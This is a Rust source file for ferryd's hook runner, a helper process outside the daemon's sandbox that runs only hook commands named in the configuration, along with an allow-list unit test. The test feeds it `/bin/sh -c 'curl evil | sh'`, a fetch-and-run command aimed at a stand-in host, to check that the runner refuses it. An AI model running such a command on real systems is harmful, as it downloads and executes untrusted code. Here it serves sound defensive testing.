//! The hook runner: a small process `ferryd serve` starts before it confines itself, so hook
//! commands run outside the daemon's Landlock rules and seccomp filter (which refuses
//! `execve`) without loosening them.
//!
//! The daemon and the runner talk over a Unix socket pair (the runner's stdin): frames of a
//! 4-byte big-endian length and a JSON message, requests `{id, argv, env, timeout_ms}` and
//! answers `{id, outcome}`. The runner runs a command only if its argv is one that the
//! configuration names (it reads `ferryd.toml` and the users file itself, again whenever it
//! is asked for one it does not know), so a compromised daemon cannot use it to run anything
//! else. It exits when the daemon's end of the socket closes, and ignores the signals a
//! service manager sends the whole group, so hooks still run while the daemon drains.

use std::collections::{HashMap, HashSet};
use std::io;
use std::path::{Path, PathBuf};
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::{Arc, Mutex, PoisonError};
use std::time::{Duration, Instant};

use serde::{Deserialize, Serialize};
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::unix::OwnedWriteHalf;
use tokio::net::UnixStream;
use tokio::sync::oneshot;

use super::command::{self, CommandOutcome, CommandRequest};
use crate::auth::UserDb;
use crate::config::{Config, HookAction, HookSpec};

/// The largest frame either side accepts.
const MAX_FRAME: usize = 1 << 20;
/// The runner re-reads the configuration for an unknown command at most this often.
const RELOAD_INTERVAL: Duration = Duration::from_secs(1);

#[derive(Serialize, Deserialize)]
struct RequestFrame {
    id: u64,
    #[serde(flatten)]
    request: CommandRequest,
}

#[derive(Serialize, Deserialize)]
struct AnswerFrame {
    id: u64,
    outcome: CommandOutcome,
}

/// The runner process, as the daemon started it.
#[derive(Debug)]
pub struct RunnerProcess {
    child: std::process::Child,
}

impl RunnerProcess {
    /// Starts `ferryd hook-runner --config CONFIG` from this executable; returns it and the
    /// daemon's end of the socket. Call it before the sandbox, from the only thread.
    pub fn spawn(config: &Path) -> io::Result<(RunnerProcess, std::os::unix::net::UnixStream)> {
        let (ours, theirs) = std::os::unix::net::UnixStream::pair()?;
        let executable = std::env::current_exe()?;
        let child = std::process::Command::new(executable)
            .arg("--config")
            .arg(config)
            .arg("hook-runner")
            .stdin(std::process::Stdio::from(std::os::fd::OwnedFd::from(
                theirs,
            )))
            .stdout(std::process::Stdio::null())
            .spawn()?;
        Ok((RunnerProcess { child }, ours))
    }

    /// The runner's process id.
    pub fn id(&self) -> u32 {
        self.child.id()
    }
}

type Pending = Arc<Mutex<HashMap<u64, oneshot::Sender<CommandOutcome>>>>;

/// The daemon's side: sends requests, matches answers to them.
#[derive(Debug)]
pub(super) struct RunnerClient {
    writer: tokio::sync::Mutex<OwnedWriteHalf>,
    pending: Pending,
    next_id: AtomicU64,
}

impl RunnerClient {
    /// Takes over the daemon's end of the socket (on the runtime).
    pub(super) fn connect(stream: std::os::unix::net::UnixStream) -> io::Result<RunnerClient> {
        stream.set_nonblocking(true)?;
        let (mut reader, writer) = UnixStream::from_std(stream)?.into_split();
        let pending: Pending = Arc::default();
        let answers = pending.clone();
        tokio::spawn(async move {
            while let Ok(frame) = read_frame(&mut reader).await {
                let Ok(answer) = serde_json::from_slice::<AnswerFrame>(&frame) else {
                    break;
                };
                let waiter = answers
                    .lock()
                    .unwrap_or_else(PoisonError::into_inner)
                    .remove(&answer.id);
                if let Some(waiter) = waiter {
                    let _ = waiter.send(answer.outcome);
                }
            }
            tracing::error!("the hook runner stopped: hook commands fail until ferryd restarts");
            // Waiters see their sender dropped.
            answers
                .lock()
                .unwrap_or_else(PoisonError::into_inner)
                .clear();
        });
        Ok(RunnerClient {
            writer: tokio::sync::Mutex::new(writer),
            pending,
            next_id: AtomicU64::new(1),
        })
    }

    /// Has the runner run `request`.
    pub(super) async fn run(&self, request: CommandRequest) -> CommandOutcome {
        let id = self.next_id.fetch_add(1, Ordering::Relaxed);
        let (sender, receiver) = oneshot::channel();
        self.pending
            .lock()
            .unwrap_or_else(PoisonError::into_inner)
            .insert(id, sender);
        let frame = match serde_json::to_vec(&RequestFrame { id, request }) {
            Ok(frame) => frame,
            Err(error) => return CommandOutcome::NotStarted(error.to_string()),
        };
        let sent = {
            let mut writer = self.writer.lock().await;
            write_frame(&mut *writer, &frame).await
        };
        if let Err(error) = sent {
            self.pending
                .lock()
                .unwrap_or_else(PoisonError::into_inner)
                .remove(&id);
            return CommandOutcome::NotStarted(format!("hook runner unreachable: {error}"));
        }
        receiver
            .await
            .unwrap_or_else(|_| CommandOutcome::NotStarted("the hook runner stopped".to_owned()))
    }
}

async fn read_frame<R: tokio::io::AsyncRead + Unpin>(reader: &mut R) -> io::Result<Vec<u8>> {
    let length = reader.read_u32().await? as usize;
    if length > MAX_FRAME {
        return Err(io::Error::other("hook runner frame too large"));
    }
    let mut frame = vec![0; length];
    reader.read_exact(&mut frame).await?;
    Ok(frame)
}

async fn write_frame<W: tokio::io::AsyncWrite + Unpin>(
    writer: &mut W,
    frame: &[u8],
) -> io::Result<()> {
    let length = u32::try_from(frame.len())
        .ok()
        .filter(|&length| length as usize <= MAX_FRAME)
        .ok_or_else(|| io::Error::other("hook runner frame too large"))?;
    writer.write_u32(length).await?;
    writer.write_all(frame).await?;
    writer.flush().await
}

/// The commands the configuration names, as the runner last read them: those of
/// `ferryd.toml` and those of the users file, each kept from its last good read, so a users
/// file that is missing at start (no users yet) or broken later does not take the global
/// hooks with it, as it does not in the daemon.
struct AllowList {
    config: PathBuf,
    global: HashSet<Vec<String>>,
    per_user: HashSet<Vec<String>>,
    read_at: Option<Instant>,
}

impl AllowList {
    fn new(config: &Path) -> AllowList {
        AllowList {
            config: config.to_owned(),
            global: HashSet::new(),
            per_user: HashSet::new(),
            read_at: None,
        }
    }

    fn read(&mut self) {
        self.read_at = Some(Instant::now());
        let config = match Config::load(&self.config) {
            Ok(config) => config,
            Err(error) => {
                tracing::warn!(%error, "hook runner: cannot read the configuration; keeping the commands it had");
                return;
            }
        };
        self.global = commands(config.hooks.hooks.iter());
        // A missing users file is no users, as for the daemon.
        match UserDb::load(&config.auth.users_file) {
            Ok(users) => {
                self.per_user = commands(users.iter().flat_map(|record| record.hooks.iter()));
            }
            Err(error) => {
                tracing::warn!(%error, "hook runner: cannot read the users file; keeping its commands")
            }
        }
    }

    fn contains(&self, argv: &[String]) -> bool {
        self.global.contains(argv) || self.per_user.contains(argv)
    }

    fn allows(&mut self, argv: &[String]) -> bool {
        if self.contains(argv) {
            return true;
        }
        if self
            .read_at
            .is_none_or(|at| at.elapsed() >= RELOAD_INTERVAL)
        {
            self.read();
        }
        self.contains(argv)
    }
}

/// The argv of every command hook among `specs`.
fn commands<'a>(specs: impl Iterator<Item = &'a HookSpec>) -> HashSet<Vec<String>> {
    specs
        .filter_map(|spec| match &spec.action {
            HookAction::Command(argv) => Some(argv.clone()),
            HookAction::Webhook { .. } => None,
        })
        .collect()
}

/// `ferryd hook-runner`: serves the daemon on stdin until it closes. Returns the exit code.
pub fn serve_runner(config: &Path) -> i32 {
    let runtime = match tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
    {
        Ok(runtime) => runtime,
        Err(error) => {
            eprintln!("ferryd hook-runner: {error}");
            return 1;
        }
    };
    let stdin = match io::stdin().lock().as_fd_owned() {
        Ok(fd) => fd,
        Err(error) => {
            eprintln!("ferryd hook-runner: {error}");
            return 1;
        }
    };
    let mut allow = AllowList::new(config);
    allow.read();
    let allow = Arc::new(Mutex::new(allow));
    runtime.block_on(async move {
        for kind in [
            tokio::signal::unix::SignalKind::terminate(),
            tokio::signal::unix::SignalKind::interrupt(),
            tokio::signal::unix::SignalKind::hangup(),
        ] {
            // Registering a handler is what ignores the signal (the daemon decides when we go).
            if let Ok(mut signal) = tokio::signal::unix::signal(kind) {
                tokio::spawn(async move { while signal.recv().await.is_some() {} });
            }
        }
        let stream = std::os::unix::net::UnixStream::from(stdin);
        if stream.set_nonblocking(true).is_err() {
            return 1;
        }
        let Ok(stream) = UnixStream::from_std(stream) else {
            return 1;
        };
        let (mut reader, writer) = stream.into_split();
        let writer = Arc::new(tokio::sync::Mutex::new(writer));
        while let Ok(frame) = read_frame(&mut reader).await {
            let Ok(RequestFrame { id, request }) = serde_json::from_slice(&frame) else {
                return 2;
            };
            let allowed = allow
                .lock()
                .unwrap_or_else(PoisonError::into_inner)
                .allows(&request.argv);
            let writer = writer.clone();
            tokio::spawn(async move {
                let outcome = if allowed {
                    command::run(&request).await
                } else {
                    CommandOutcome::NotStarted(
                        "the hook runner refused a command the configuration does not name"
                            .to_owned(),
                    )
                };
                if let Ok(frame) = serde_json::to_vec(&AnswerFrame { id, outcome }) {
                    let mut writer = writer.lock().await;
                    let _ = write_frame(&mut *writer, &frame).await;
                }
            });
        }
        0
    })
}

/// stdin as an owned descriptor (a duplicate, so nothing is closed twice).
trait AsFdOwned {
    fn as_fd_owned(&self) -> io::Result<std::os::fd::OwnedFd>;
}

impl AsFdOwned for io::StdinLock<'_> {
    fn as_fd_owned(&self) -> io::Result<std::os::fd::OwnedFd> {
        use std::os::fd::AsFd as _;
        self.as_fd().try_clone_to_owned()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_runner_runs_only_commands_the_configuration_names() {
        let dir = tempfile::tempdir().unwrap();
        let config = dir.path().join("ferryd.toml");
        std::fs::write(
            &config,
            format!(
                "[server]\nstate_dir = \"{d}\"\ndata_dir = \"{d}/data\"\n\
                 [[hook]]\non = [\"upload\"]\nrun = [\"/usr/local/bin/deploy\", \"--fast\"]\n",
                d = dir.path().display()
            ),
        )
        .unwrap();
        std::fs::write(
            dir.path().join("users.toml"),
            "[[user]]\nname = \"ci\"\n[[user.hook]]\non = [\"delete\"]\nrun = [\"/usr/bin/logger\"]\n",
        )
        .unwrap();
        let mut allow = AllowList::new(&config);
        allow.read();
        let argv = |words: &[&str]| words.iter().map(|w| (*w).to_owned()).collect::<Vec<_>>();
        assert!(allow.allows(&argv(&["/usr/local/bin/deploy", "--fast"])));
        assert!(
            allow.allows(&argv(&["/usr/bin/logger"])),
            "a user's own hook"
        );
        assert!(
            !allow.allows(&argv(&["/usr/local/bin/deploy"])),
            "other arguments"
        );
        assert!(!allow.allows(&argv(&["/bin/sh", "-c", "curl evil | sh"])));

        // No users file yet (a fresh install): the global hooks are allowed all the same; a
        // users file broken later keeps the per-user commands read before.
        std::fs::remove_file(dir.path().join("users.toml")).unwrap();
        let mut fresh = AllowList::new(&config);
        fresh.read();
        assert!(fresh.contains(&argv(&["/usr/local/bin/deploy", "--fast"])));
        std::fs::write(dir.path().join("users.toml"), "[[user]]\nname = \"-bad\"\n").unwrap();
        allow.read();
        assert!(allow.contains(&argv(&["/usr/bin/logger"])));
    }
}
